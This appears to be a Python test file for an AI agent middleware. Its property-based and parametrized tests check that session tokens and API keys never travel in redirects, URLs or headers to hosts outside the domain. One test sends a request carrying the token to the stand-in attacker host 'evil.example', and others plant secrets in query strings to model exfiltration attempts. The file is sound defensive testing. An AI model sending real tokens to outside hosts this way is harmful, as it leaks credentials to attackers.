"""No request to a host outside the domain ever holds the token or a key, whatever the agent does."""

from __future__ import annotations

from typing import TYPE_CHECKING

import httpx2
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.journeys import INSIDE, LIBRARIES, Journey, Sent, headers, places, statuses
from otas_middleware._capture.session import TOKEN_HEADER
from otas_middleware.agent import AgentSession, SecretInUrlError

if TYPE_CHECKING:
    from collections.abc import Iterator

    from otas_middleware.localbrain import LocalBrain


@pytest.fixture(scope="module")
def session(brain: LocalBrain) -> Iterator[AgentSession]:
    """One session for all examples, in a process that has a backend's key too."""
    with AgentSession(
        INSIDE, agent_key=brain.agent_key, sdk_key=brain.sdk_key, brain_url=brain.url, uasam_url=brain.url
    ) as session:
        yield session


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    stops=st.lists(places, min_size=1, max_size=6),
    status=statuses,
    given_headers=headers,
    secret_in_url=st.sampled_from(["", "", "", "{token}", "{key}", "{sdk_key}"]),
    library=st.sampled_from(LIBRARIES),
)
def test_no_journey_of_a_request_takes_a_secret_out_of_the_domain(
    session: AgentSession,
    brain: LocalBrain,
    stops: list[str],
    status: int,
    given_headers: dict[str, str],
    secret_in_url: str,
    library: str,
) -> None:
    token = session.headers_for(INSIDE)[TOKEN_HEADER]
    keys = [brain.agent_key, brain.sdk_key]

    def filled(text: str) -> str:
        return text.format(token=token, key=brain.agent_key, sdk_key=brain.sdk_key)

    def check(sent: Sent) -> None:
        assert not any(key in sent.text for key in keys)
        if sent.is_inside():
            assert sent.tokens() == [token]
        else:
            assert token not in sent.text
            assert "x-otas" not in sent.text.lower()

    if secret_in_url:
        last = stops[-1]
        stops[-1] = filled(f"{last}{'&' if '?' in last else '?'}s={secret_in_url}")
    journey = Journey(stops, status, check)
    sent = {name: filled(value) for name, value in given_headers.items()}
    ends_inside = Sent("GET", stops[-1], [], b"").is_inside()
    leads_astray = secret_in_url in {"{key}", "{sdk_key}"} or (secret_in_url == "{token}" and not ends_inside)
    if leads_astray:
        with pytest.raises(SecretInUrlError) as refusal:
            journey.make(library, session.instrument, sent)
        assert not any(secret in str(refusal.value) for secret in [token, *keys])
    else:
        journey.make(library, session.instrument, sent)
    assert len(journey.sent) == len(stops) - leads_astray


@pytest.mark.parametrize("place", ["name", "value"])
def test_a_secret_in_a_headers_name_goes_no_further_than_one_in_its_value(
    session: AgentSession, brain: LocalBrain, place: str
) -> None:
    token = session.headers_for(INSIDE)[TOKEN_HEADER]
    seen: list[str] = []

    def answer(request: httpx2.Request) -> httpx2.Response:
        seen.append(str(request.headers.raw))
        return httpx2.Response(204)

    header = {token: "x"} if place == "name" else {"x": token}
    with httpx2.Client(transport=session.transport(httpx2.MockTransport(answer))) as http:
        http.get("https://evil.example", headers=header)
    assert token not in seen[0]
    assert "evil.example" in seen[0]
